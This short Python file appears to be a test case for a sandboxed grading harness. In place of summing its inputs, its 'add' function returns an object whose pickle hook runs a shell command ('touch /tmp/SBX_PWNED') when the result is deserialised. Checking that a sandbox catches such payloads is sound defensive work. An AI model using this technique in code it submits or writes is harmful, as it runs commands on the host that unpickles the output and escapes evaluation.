# assay: mode=function expect=runtime_error,wrong_answer
# Returns an object that runs a command where it is unpickled.
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/SBX_PWNED",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def add(a, b):
    return Payload()
